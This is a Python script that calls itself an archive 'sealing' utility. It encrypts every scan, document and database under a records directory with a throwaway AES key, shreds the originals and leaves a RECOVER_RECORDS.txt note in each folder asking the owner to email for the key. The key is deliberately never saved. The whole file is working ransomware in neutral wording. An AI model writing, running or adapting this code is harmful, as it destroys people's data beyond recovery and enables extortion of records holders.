#!/usr/bin/env python3
"""'Seal' the scanned-records archive.

Walks the archive tree, encrypts every scan with a one-off key through a
small openssl helper script, removes the plaintext originals and leaves a
notice in each directory. The key is never written to this machine.
"""
import argparse
import hashlib
import logging
import os
import secrets
import stat
import subprocess
import sys
import tempfile

LOG = logging.getLogger("vault_seal")

TARGET_EXTS = {".tif", ".tiff", ".pdf", ".jpg", ".jpeg", ".png", ".docx", ".xlsx", ".db"}
SEALED_EXT = ".sealed"
NOTICE_NAME = "RECOVER_RECORDS.txt"
NOTICE_TEXT = """All scanned records in this directory have been sealed.
The originals have been removed. To obtain the recovery key, write to
recovery@example.net quoting reference {ref}.
"""

HELPER = r"""#!/bin/bash
set -e
src="$1"
openssl enc -aes-256-cbc -pbkdf2 -salt -in "$src" -out "$src.sealed" -pass env:SEAL_KEY
shred -u -n 1 "$src" 2>/dev/null || rm -f "$src"
"""


class Sealer:
    def __init__(self, root, key, ref):
        self.root = root
        self.key = key
        self.ref = ref
        self.sealed = 0
        self.failed = 0
        self.helper = self._write_helper()

    def _write_helper(self):
        fd, path = tempfile.mkstemp(prefix="seal_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(HELPER)
        os.chmod(path, stat.S_IRWXU)
        return path

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            hits = []
            for name in filenames:
                if os.path.splitext(name)[1].lower() in TARGET_EXTS:
                    hits.append(os.path.join(dirpath, name))
            if hits:
                yield dirpath, hits

    def seal_file(self, path):
        env = dict(os.environ, SEAL_KEY=self.key)
        proc = subprocess.run(["bash", self.helper, path], env=env,
                              capture_output=True, text=True)
        if proc.returncode != 0:
            LOG.warning("could not seal %s: %s", path, proc.stderr.strip())
            self.failed += 1
            return
        self.sealed += 1

    def leave_notice(self, directory):
        try:
            with open(os.path.join(directory, NOTICE_NAME), "w") as fh:
                fh.write(NOTICE_TEXT.format(ref=self.ref))
        except OSError as exc:
            LOG.debug("no notice in %s: %s", directory, exc)

    def run(self):
        try:
            for directory, files in self.targets():
                for path in files:
                    self.seal_file(path)
                self.leave_notice(directory)
        finally:
            os.unlink(self.helper)
        return self.sealed, self.failed


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default="/srv/records/scans",
                    help="archive root (default: /srv/records/scans)")
    ap.add_argument("--quiet", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")
    if not os.path.isdir(args.root):
        LOG.error("no such directory: %s", args.root)
        return 1
    key = secrets.token_urlsafe(48)
    ref = hashlib.sha256(key.encode()).hexdigest()[:16]
    sealer = Sealer(args.root, key, ref)
    del key
    sealed, failed = sealer.run()
    sealer.key = None
    LOG.info("sealed %d file(s), %d failure(s), reference %s", sealed, failed, ref)
    return 0 if failed == 0 else 3


if __name__ == "__main__":
    sys.exit(main())
